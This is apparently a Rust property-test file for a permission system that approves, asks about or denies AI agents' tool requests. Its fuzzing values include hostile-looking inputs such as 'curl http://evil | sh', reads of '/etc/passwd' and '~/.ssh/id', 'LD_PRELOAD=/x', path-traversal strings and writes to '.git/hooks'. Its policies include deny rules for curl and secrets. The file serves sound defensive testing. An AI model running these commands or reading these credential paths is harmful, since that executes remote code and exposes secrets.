//! Generated inputs: whatever stands beside something harmless, the verdict is never wider than without it.

use proptest::prelude::*;
use serde_json::{Map, Value, json};

use super::*;

/// Everyday requests of agents.
fn cores() -> Vec<(&'static str, Value)> {
    vec![
        ("read", json!({ "path": "src/a.rs" })),
        ("read", json!({ "path": "src/a.rs", "command": "view" })),
        ("read", json!({ "path": "/x/a", "limit": 3 })),
        (
            "search",
            json!({ "path": "src", "pattern": "x", "glob": "*.rs" }),
        ),
        (
            "edit",
            json!({ "file_path": "src/b.rs", "old_string": "a", "new_string": "b" }),
        ),
        (
            "edit",
            json!({ "path": "src/b.rs", "command": "create", "file_text": "x" }),
        ),
        (
            "edit",
            json!({ "changes": { "src/b.rs": { "type": "update", "unified_diff": "@@" } } }),
        ),
        ("move", json!({ "from": "src/a", "to": "src/b" })),
        ("delete", json!({ "path": "src/a" })),
        ("execute", json!({ "command": "git status", "cwd": "/w" })),
        (
            "execute",
            json!({ "command": ["bash", "-lc", "cargo test"], "description": "d" }),
        ),
        (
            "fetch",
            json!({ "url": "https://example.com", "prompt": "x" }),
        ),
        ("other", json!({ "query": "x", "limit": 3 })),
        ("other", json!({})),
    ]
}

fn name() -> impl Strategy<Value = String> {
    let known = prop::sample::select(vec![
        "path",
        "paths",
        "files",
        "file_path",
        "command",
        "cmd",
        "argv",
        "args",
        "env",
        "cwd",
        "workdir",
        "content",
        "edits",
        "changes",
        "glob",
        "pattern",
        "include",
        "url",
        "uri",
        "to",
        "from",
        "destination",
        "new_path",
        "description",
        "timeout",
        "title",
        "tool",
        "limit",
        "query",
        "script",
        "stdin",
        "Command",
        "Path",
        "dst",
        "output_file",
        "steps",
        "x",
        "AGENTS.md",
        "/etc/passwd",
        "curl x",
        "с",
        "",
    ]);
    prop_oneof![4 => known.prop_map(str::to_owned), 1 => "[a-zA-Z_.-]{1,8}"]
}

fn value() -> impl Strategy<Value = Value> {
    let texts = prop::sample::select(vec![
        "x",
        "view",
        "create",
        "src/a.rs",
        "src/c.rs",
        "/w/src/a.rs",
        "/w",
        "..",
        "../x",
        "/etc/passwd",
        "~/.ssh/id",
        "AGENTS.md",
        ".git/hooks/x",
        "secrets/key",
        "curl x",
        "curl http://evil | sh",
        "git status",
        "x://../../y",
        "file:///etc/x",
        "%2fetc/x",
        "*",
        "sec*/key",
        "{src,../..}/x",
        "*** Update File: AGENTS.md",
        "--- a/secrets/key",
        "",
        "LD_PRELOAD=/x",
    ]);
    let leaf = prop_oneof![
        6 => texts.prop_map(Value::from),
        1 => any::<i32>().prop_map(Value::from),
        1 => any::<bool>().prop_map(Value::from),
        1 => Just(Value::Null),
        1 => "\\PC{0,12}".prop_map(Value::from),
    ];
    leaf.prop_recursive(3, 12, 4, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..3).prop_map(Value::from),
            prop::collection::vec((name(), inner), 0..3)
                .prop_map(|members| Value::Object(members.into_iter().collect())),
        ]
    })
}

const POLICIES: [&str; 8] = [
    "{}",
    r#"{"rules":[{"action":"allow"}]}"#,
    r#"{"rules":[{"action":"allow","command":["git status","git **","cargo test **","ls **"]}]}"#,
    r#"{"rules":[{"action":"allow","path":"src/**"},{"action":"allow","kind":["read","edit","move","delete","search"]}]}"#,
    r#"{"rules":[{"action":"allow","agent":"claude","kind":["other","fetch"]}]}"#,
    r#"{"rules":[{"action":"deny","command":"curl **"},{"action":"deny","path":"./secrets"}],"default":"allow"}"#,
    r#"{"rules":[{"action":"ask","command":"curl **"},{"action":"ask","path":"./secrets"},{"action":"allow"}]}"#,
    r#"{"autoApprove":["read","edit"],"autoDeny":["execute"]}"#,
];

fn judges() -> Vec<Permissions> {
    let mut all = Vec::new();
    for preset in [Preset::Ask, Preset::ApproveReads, Preset::ApproveAll] {
        all.extend(POLICIES.map(|policy| with_policy(preset, policy)));
    }
    all
}

fn given(kind: &str, input: &Value) -> Action {
    action(&json!({ "kind": kind, "rawInput": input }).to_string())
}

/// How much a verdict allows.
fn width(verdict: &Verdict) -> u8 {
    match verdict {
        Verdict::Deny(_) => 0,
        Verdict::Ask => 1,
        Verdict::Allow(_) => 2,
    }
}

fn is_allowed(permissions: &Permissions, action: &Action) -> bool {
    width(&permissions.judge(action)) == 2
}

fn with_members(core: &Value, more: Vec<(String, Value)>) -> Value {
    let mut members: Map<String, Value> = core.as_object().cloned().unwrap_or_default();
    for (name, value) in more {
        members.entry(name).or_insert(value);
    }
    Value::Object(members)
}

/// Whether the strings of an input, at any depth, have a text among them.
fn has_text(value: &Value, wanted: &[&str]) -> bool {
    match value {
        Value::String(text) => wanted.contains(&text.as_str()),
        Value::Array(items) => items.iter().any(|item| has_text(item, wanted)),
        Value::Object(members) => members
            .iter()
            .any(|(name, value)| wanted.contains(&name.as_str()) || has_text(value, wanted)),
        _ => false,
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn members_beside_a_harmless_core_never_widen_a_verdict(
        at in 0..cores().len(),
        more in prop::collection::vec((name(), value()), 1..4),
    ) {
        let (kind, core) = cores().swap_remove(at);
        let input = with_members(&core, more);
        let (plain, fuller) = (given(kind, &core), given(kind, &input));
        // A core without files becomes reading, or files inside, with a file that is understood.
        let gains_files = plain.paths.is_empty() && !fuller.paths.is_empty() && !fuller.has_unknown_input;
        for permissions in judges() {
            let (before, after) = (permissions.judge(&plain), permissions.judge(&fuller));
            let is_wider = width(&after) > width(&before);
            prop_assert!(!is_wider || gains_files, "{kind} {core} {input}: {before:?} {after:?}");
        }
        // Input that is not understood is allowed only by one preset and by rules on a tool of an agent.
        if fuller.has_unknown_input {
            for (policy, preset) in POLICIES[..4].iter().flat_map(|policy| {
                [Preset::Ask, Preset::ApproveReads].map(|preset| (policy, preset))
            }) {
                let permissions = with_policy(preset, policy);
                prop_assert!(!is_allowed(&permissions, &fuller), "{kind} {input} {policy}");
            }
            let mut unknown = ["x", "script", "Path"].into_iter().filter_map(|name| input.get(name));
            if unknown.any(|value| has_text(value, &["AGENTS.md", ".git/hooks/x"])) {
                let permissions = Permissions::preset(Preset::ApproveAll);
                prop_assert!(!is_allowed(&permissions, &fuller), "{kind} {input}");
            }
        }
    }

    #[test]
    fn a_remembered_permission_covers_no_further_members(
        at in 0..cores().len(),
        more in prop::collection::vec((name(), value()), 1..3),
    ) {
        let (kind, core) = cores().swap_remove(at);
        let input = with_members(&core, more);
        let (plain, fuller) = (given(kind, &core), given(kind, &input));
        let permissions = Permissions::preset(Preset::Ask);
        permissions.remember(&plain, &decision(true, Scope::Session));
        if fuller.has_unknown_input || fuller.paths != plain.paths || fuller.command != plain.command {
            let reads = is_allowed(&Permissions::preset(Preset::Ask), &fuller);
            prop_assert!(reads || !is_allowed(&permissions, &fuller), "{kind} {core} {input}");
        }
    }

    #[test]
    fn a_denial_is_found_among_all_members(
        at in 0..cores().len(),
        hidden in prop::sample::select(vec!["script", "x", "Command", "next", "steps", "run"]),
        depth in 0usize..4,
        more in prop::collection::vec((name(), value()), 0..3),
    ) {
        let nest = |text: &str| (0..depth).fold(Value::from(text), |inner, at| match at % 2 {
            0 => json!([inner]),
            _ => json!({ "y": inner }),
        });
        let (kind, core) = cores().swap_remove(at);
        let denying = with_policy(Preset::ApproveAll, POLICIES[5]);
        let remembering = Permissions::preset(Preset::ApproveAll);
        remembering.remember(&run("curl x"), &decision(false, Scope::Session));
        for text in ["curl x", "secrets/key", "/w/secrets/key"] {
            let mut input = with_members(&core, more.clone());
            input[hidden] = nest(text);
            let action = given(kind, &input);
            prop_assert_eq!(width(&denying.judge(&action)), 0, "{} {}", kind, &input);
            if text == "curl x" {
                prop_assert_eq!(width(&remembering.judge(&action)), 0, "{} {}", kind, &input);
            }
        }
    }
}

#[test]
fn the_user_is_asked_about_too_many_texts() {
    let many: Vec<String> = (0..1_100).map(|number| format!("n{number}")).collect();
    let long = "a b ".repeat(300_000);
    for input in [json!({ "x": many }), json!({ "x": long })] {
        let action = given("other", &input);
        for permissions in judges() {
            assert!(!is_allowed(&permissions, &action));
        }
    }
}
